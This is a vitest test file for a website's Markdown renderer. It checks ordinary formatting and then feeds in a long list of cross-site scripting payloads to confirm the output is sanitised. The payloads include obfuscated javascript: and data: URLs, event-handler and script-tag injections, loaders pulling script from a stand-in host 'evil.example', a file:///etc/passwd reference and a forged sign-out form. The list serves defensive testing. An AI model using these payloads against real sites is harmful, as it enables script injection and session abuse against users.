import { describe, expect, test } from 'vitest';
import { isLink, isUrlOrPath } from './links.ts';
import { picturesIn, renderMarkdown } from './markdown.ts';

const html = (text: string) => renderMarkdown(text).html.trim();

/** Every element of the result with its attributes; text contains neither `<` nor `>`. */
function elementsOf(result: string) {
  return [...result.matchAll(/<([a-z0-9]+)((?:\s[^<>]*)?)>/gi)].map(([, name = '', rest = '']) => ({
    name,
    attributes: Object.fromEntries(
      [...rest.matchAll(/([^\s=]+)="([^"]*)"/g)].map(([, key = '', value = '']) => [key, value]),
    ),
  }));
}

describe('what staff write', () => {
  test('headings begin below the title of the page, with an id each of its own', () => {
    const { html: result, headings } = renderMarkdown(
      '# Day & Night\n\n## Sizes\n\n## Sizes\n\n###### Small print\n\n## Content',
    );
    expect(headings).toEqual([
      { id: 'day-and-night', level: 2, text: 'Day & Night' },
      { id: 'sizes', level: 2, text: 'Sizes' },
      { id: 'sizes-2', level: 2, text: 'Sizes' },
      { id: 'small-print', level: 4, text: 'Small print' },
      // An element of the page has this id.
      { id: 'content-2', level: 2, text: 'Content' },
    ]);
    expect(result).toContain('<h2 id="day-and-night">Day &amp; Night</h2>');
    expect(result).not.toContain('<h1');
  });

  test('links, lists, quotations and emphasis', () => {
    expect(html('**Bold**, *soft*, [book](/#appointment-form "Now") and <hello@example.com>')).toBe(
      '<p><strong>Bold</strong>, <em>soft</em>, <a href="/#appointment-form" title="Now">book</a> and <a href="mailto:hello@example.com">hello@example.com</a></p>',
    );
    expect(html('3. three\n4. four')).toBe('<ol start="3">\n<li>three</li>\n<li>four</li>\n</ol>');
    expect(html('> quoted')).toBe('<blockquote>\n<p>quoted</p>\n</blockquote>');
    expect(html('- [x] done')).toContain('☑ done');
  });

  test('a single Enter is a new line', () => {
    expect(html('Monday 9am-5pm\nTuesday 9am-5pm\n\nNext')).toBe(
      '<p>Monday 9am-5pm<br />Tuesday 9am-5pm</p>\n<p>Next</p>',
    );
  });

  test('a table scrolls in a box that the keyboard reaches', () => {
    expect(html('| What | Price |\n| --- | ---: |\n| Roller | £55 |')).toBe(
      `<div class="table-scroll" role="group" aria-label="Table" tabindex="0"><table>
<thead><tr><th scope="col">What</th><th scope="col" align="right">Price</th></tr></thead>
<tbody><tr><td>Roller</td><td align="right">£55</td></tr></tbody></table></div>`,
    );
  });

  test('square brackets of a template stay as they are', () => {
    expect(html('Kept for [12 months] by [owner].')).toBe(
      '<p>Kept for [12 months] by [owner].</p>',
    );
  });

  test('a picture gets what the page knows of it', () => {
    const text = 'See ![A blind](/uploads/a.webp) and ![](/uploads/b.webp).';
    expect(picturesIn(text)).toEqual(['/uploads/a.webp', '/uploads/b.webp']);
    const pictureOf = (src: string, alt: string) => ({
      src: `${src}?small`,
      alt: alt || 'From the library',
      width: 800,
      height: 600,
      srcSet: `${src}?small 480w, ${src}?large 800w`,
      sizes: '100vw',
    });
    const [first, second] = elementsOf(renderMarkdown(text, { pictureOf }).html).filter(
      ({ name }) => name === 'img',
    );
    expect(first?.attributes).toEqual({
      src: '/uploads/a.webp?small',
      alt: 'A blind',
      width: '800',
      height: '600',
      srcset: '/uploads/a.webp?small 480w, /uploads/a.webp?large 800w',
      sizes: '100vw',
      loading: 'lazy',
      decoding: 'async',
    });
    expect(second?.attributes.alt).toBe('From the library');
  });

  test('links of a preview leave the form where it is', () => {
    expect(renderMarkdown('[x](/privacy)', { newTab: true }).html).toContain(
      '<a href="/privacy" target="_blank" rel="noopener">x</a>',
    );
  });
});

describe('what an attacker writes', () => {
  const addresses = [
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    '  javascript:alert(1)',
    'java\tscript:alert(1)',
    'java\nscript:alert(1)',
    '\u0001javascript:alert(1)',
    'javascript&colon;alert(1)',
    'javascript&#58;alert(1)',
    'javascript&#x3A;alert(1)',
    '&#106;avascript:alert(1)',
    'jav&#x09;ascript:alert(1)',
    'javascript%3Aalert(1)',
    'javascript://%0aalert(1)',
    'vbscript:msgbox(1)',
    'data:text/html,<script>alert(1)</script>',
    'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
    'data:image/svg+xml,<svg onload=alert(1)>',
    'blob:https://example.com/1',
    'file:///etc/passwd',
    '//evil.example/x',
    '/\\evil.example/x',
    '\\\\evil.example\\x',
    'https:evil.example',
    'relative/path',
  ];
  const forms = (address: string) => [
    `[x](${address})`,
    `[x](<${address}>)`,
    `[x](${address} "title")`,
    `![x](${address})`,
    `![x](<${address}>)`,
    `<${address}>`,
    `[x]\n\n[x]: ${address}`,
    `[x]\n\n[x]: <${address}>`,
    `[![y](${address})](${address})`,
  ];
  const raw = [
    '<script>alert(1)</script>',
    '<ScRiPt src=//evil.example/x.js></sCrIpT>',
    '<scr<script>ipt>alert(1)</script>',
    '<script\n>alert(1)</script\n>',
    '<img src=x onerror=alert(1)>',
    '<img src="x" OnErRoR="alert(1)"/>',
    '<svg onload=alert(1)><animate onbegin=alert(1)></svg>',
    '<svg><script>alert(1)</script></svg>',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<style>body{background:url(//evil.example)}</style>',
    '<p style="position:fixed;inset:0">over everything</p>',
    '<a href="javascript:alert(1)">x</a>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object><embed src=x>',
    '<form action="/api/auth/sign-out" method="post"><button>x</button></form>',
    '<meta http-equiv="refresh" content="0;url=//evil.example"><base href="//evil.example/">',
    '<link rel=stylesheet href=//evil.example/x.css>',
    '<details open ontoggle=alert(1)><template><b>x</b></template></details>',
    '<!-- --><script>alert(1)</script><!-- -->',
    '<![CDATA[<script>alert(1)</script>]]>',
    '<?php echo 1 ?><!DOCTYPE html>',
    '</div></main><script>alert(1)</script>',
    '| <img src=x onerror=alert(1)> |\n| --- |\n| <b onclick=alert(1)>x</b> |',
    '# <img src=x onerror=alert(1)>\n\n## "><script>alert(1)</script>',
    '- <script>alert(1)</script>\n\n> <script>alert(1)</script>',
    '[x](/a "\\"><script>alert(1)</script>")',
    '[<img src=x onerror=alert(1)>](/a)',
    '![" onerror="alert(1)](/a.webp)',
    '![x](/a.webp" onerror="alert(1))',
    '[x](/a" onmouseover="alert(1))',
    '`<script>alert(1)</script>`',
    '```html"><script>alert(1)</script>\n<script>alert(1)</script>\n```',
    '    <script>alert(1)</script>',
    '&lt;script&gt;alert(1)&lt;/script&gt;',
    '\\<script>alert(1)</script>',
    '<a id=content name=content>x</a>',
    '<http://evil.example/"onmouseover="alert(1)>',
    '[a](<javascript:alert(1)>) [b][c]\n\n[c]: javascript:alert(1)',
  ];
  const safe = new Set(
    'p h2 h3 h4 ul ol li blockquote pre code hr br strong em del a img div table thead tbody tr th td'.split(
      ' ',
    ),
  );
  const safeAttributes =
    /^(href|title|src|alt|loading|decoding|id|start|scope|align|class|role|aria-label|tabindex)$/;

  test.each([...addresses.flatMap(forms), ...raw])('%j comes out harmless', (attack) => {
    for (const text of [attack, `before ${attack} after`, `> ${attack}`, `- a\n\n  ${attack}`]) {
      for (const { name, attributes } of elementsOf(html(text))) {
        expect(safe).toContain(name);
        for (const attribute of Object.keys(attributes)) expect(attribute).toMatch(safeAttributes);
        if (attributes.href !== undefined) expect(isLink(attributes.href)).toBe(true);
        if (attributes.src !== undefined) expect(isUrlOrPath(attributes.src)).toBe(true);
        expect(`${attributes.href} ${attributes.src}`).not.toMatch(
          /evil\.example\/x|script:|data:/i,
        );
      }
    }
  });

  test('HTML is shown as the text it is', () => {
    expect(html('<script>alert(1)</script>')).toBe('<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>');
    expect(html('a <b>c</b>')).toBe('<p>a &lt;b&gt;c&lt;/b&gt;</p>');
  });

  test.each([
    '>',
    '> ',
    '- ',
    '1. ',
    '[',
    '![x](',
    '*a ',
    '_a*',
    '**a_',
    '#*',
    '!',
    '`',
    '<',
    '<!--',
    '~~a',
    '|',
    'a@',
    '&',
    '1. >[~',
    '#\n\n',
  ])('thirty thousand characters of %j do not keep the server busy', (unit) => {
    // CPU time: other tests may use the machine meanwhile.
    const before = process.cpuUsage();
    renderMarkdown(unit.repeat(30_000 / unit.length));
    expect(process.cpuUsage(before).user / 1000).toBeLessThan(2000);
  });
});
